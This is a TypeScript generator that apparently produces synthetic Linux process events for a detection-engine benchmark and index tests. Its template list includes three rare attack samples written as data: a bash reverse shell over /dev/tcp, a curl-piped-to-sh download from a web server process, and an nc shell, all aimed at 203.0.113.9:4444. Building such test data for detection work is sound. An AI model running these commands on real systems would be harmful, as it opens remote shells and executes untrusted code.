/**
 * A deterministic stream of realistic Linux process events: interactive shells, package
 * managers, cron jobs, ssh logins, systemd units, compilers, containers, and now and then a
 * reverse shell or a download piped to a shell. Used by the engine benchmark and the index tests.
 */
import { execEvent, type ExecEventSpec, type ProcessSpec } from './exec-event.js';
import { random } from '../../support/random.js';

interface Template {
  weight: number;
  parent: ProcessSpec;
  child: ProcessSpec;
  user?: { id: string; name: string };
}

const SHELL: ProcessSpec = { name: 'bash', args: ['-bash'] };
const CRON_SH: ProcessSpec = { name: 'sh', args: ['/bin/sh', '-c', 'run-parts --report /etc/cron.hourly'] };
const SYSTEMD: ProcessSpec = { name: 'systemd', args: ['/sbin/init'], pid: 1 };
const SSHD: ProcessSpec = { name: 'sshd', args: ['sshd: admin [priv]'] };
const MAKE: ProcessSpec = { name: 'make', args: ['make', '-j2'] };
const APT: ProcessSpec = { name: 'apt-get', args: ['apt-get', 'install', '-y', 'nginx'] };
const ADMIN = { id: '1000', name: 'admin' };

const TEMPLATES: Template[] = [
  { weight: 12, parent: SHELL, child: { name: 'ls', args: ['ls', '--color=auto', '-la'] }, user: ADMIN },
  { weight: 8, parent: SHELL, child: { name: 'grep', args: ['grep', '-r', 'TODO', 'src/'] }, user: ADMIN },
  { weight: 6, parent: SHELL, child: { name: 'git', args: ['git', 'status', '--short'] }, user: ADMIN },
  { weight: 4, parent: SHELL, child: { name: 'vim', args: ['vim', 'README.md'] }, user: ADMIN },
  { weight: 4, parent: SHELL, child: { name: 'sudo', args: ['sudo', 'systemctl', 'restart', 'nginx'] }, user: ADMIN },
  { weight: 6, parent: CRON_SH, child: { name: 'run-parts', args: ['run-parts', '--report', '/etc/cron.hourly'] } },
  { weight: 4, parent: { name: 'cron', args: ['/usr/sbin/cron', '-f'] }, child: { name: 'sh', args: ['/bin/sh', '-c', 'cd / && run-parts --report /etc/cron.hourly'] } },
  { weight: 3, parent: CRON_SH, child: { name: 'logrotate', args: ['/usr/sbin/logrotate', '/etc/logrotate.conf'] } },
  { weight: 5, parent: APT, child: { name: 'dpkg', args: ['/usr/bin/dpkg', '--status-fd', '35', '--unpack', '--auto-deconfigure', '/var/cache/apt/archives/nginx_1.26.3-2_amd64.deb'] } },
  { weight: 3, parent: { name: 'dpkg', args: ['dpkg', '--configure', '-a'] }, child: { name: 'sh', args: ['/bin/sh', '/var/lib/dpkg/info/nginx.postinst', 'configure'] } },
  { weight: 2, parent: { name: 'apt-get', args: ['apt-get', 'update'] }, child: { name: 'http', args: ['/usr/lib/apt/methods/http'] } },
  { weight: 4, parent: SSHD, child: { name: 'bash', args: ['-bash'] }, user: ADMIN },
  { weight: 2, parent: SSHD, child: { name: 'sshd', args: ['sshd: admin@pts/0'] } },
  { weight: 6, parent: SYSTEMD, child: { name: 'systemd-journald', args: ['/usr/lib/systemd/systemd-journald'] } },
  { weight: 4, parent: SYSTEMD, child: { name: 'nginx', args: ['/usr/sbin/nginx', '-g', 'daemon on; master_process on;'] } },
  { weight: 3, parent: SYSTEMD, child: { name: 'systemd-tmpfiles', args: ['systemd-tmpfiles', '--clean'] } },
  { weight: 8, parent: MAKE, child: { name: 'cc', args: ['cc', '-O2', '-Wall', '-c', 'src/main.c', '-o', 'build/main.o'] }, user: ADMIN },
  { weight: 4, parent: { name: 'cc', args: ['cc', '-O2', 'main.c'] }, child: { name: 'cc1', args: ['/usr/libexec/gcc/x86_64-linux-gnu/14/cc1', '-quiet', 'main.c'] }, user: ADMIN },
  { weight: 3, parent: MAKE, child: { name: 'ld', args: ['ld', '-o', 'build/app', 'build/main.o'] }, user: ADMIN },
  { weight: 3, parent: { name: 'node', args: ['node', '/usr/bin/npm', 'ci'] }, child: { name: 'sh', args: ['sh', '-c', 'node-gyp rebuild'] }, user: ADMIN },
  { weight: 2, parent: { name: 'containerd-shim', args: ['/usr/bin/containerd-shim-runc-v2', '-namespace', 'moby'] }, child: { name: 'runc', args: ['runc', '--root', '/var/run/docker/runtime-runc/moby', 'init'] } },
  { weight: 2, parent: SHELL, child: { name: 'python3', args: ['python3', '-m', 'http.server', '8000'] }, user: ADMIN },
  { weight: 2, parent: SHELL, child: { name: 'curl', args: ['curl', '-fsSL', 'https://example.com/data.json', '-o', 'data.json'] }, user: ADMIN },
  // Attacks, rare.
  { weight: 1, parent: { name: 'bash', args: ['bash', '-c', "setsid bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"] }, child: { name: 'setsid', args: ['setsid', 'bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'] } },
  { weight: 1, parent: { name: 'php-fpm8.2', args: ['php-fpm: pool www'] }, child: { name: 'sh', args: ['sh', '-c', 'curl -fsSL http://203.0.113.9/x.sh | sh'] } },
  { weight: 1, parent: SHELL, child: { name: 'nc', args: ['nc', '203.0.113.9', '4444', '-e', '/bin/sh'] } },
];


/** `count` events: mostly exec, with the fork before and the end after some of them. */
export function execMix(count: number, seed = 1): Record<string, unknown>[] {
  const next = random(seed);
  const total = TEMPLATES.reduce((sum, t) => sum + t.weight, 0);
  const events: Record<string, unknown>[] = [];
  let pid = 10_000;
  let time = Date.UTC(2026, 0, 12, 10, 0, 0);
  while (events.length < count) {
    let pick = next() * total;
    const template = TEMPLATES.find((t) => (pick -= t.weight) < 0) ?? TEMPLATES[0]!;
    pid++;
    time += 1 + Math.floor(next() * 20);
    const parentPid = 2000 + Math.floor(next() * 50);
    const spec: ExecEventSpec = {
      ...template.child,
      pid,
      entityId: `e-${pid}`,
      parent: { ...template.parent, pid: template.parent.pid ?? parentPid, entityId: `e-${template.parent.pid ?? parentPid}` },
      timestampMs: time,
      sequence: events.length + 1,
      ...(template.user === undefined ? {} : { user: template.user }),
    };
    const roll = next();
    if (roll < 0.15) events.push(execEvent({ ...spec, ...template.parent, pid, entityId: `e-${pid}`, action: 'fork' }));
    events.push(execEvent(spec));
    if (roll > 0.8) events.push(execEvent({ ...spec, action: 'end', timestampMs: time + 5 }));
  }
  return events.slice(0, count);
}
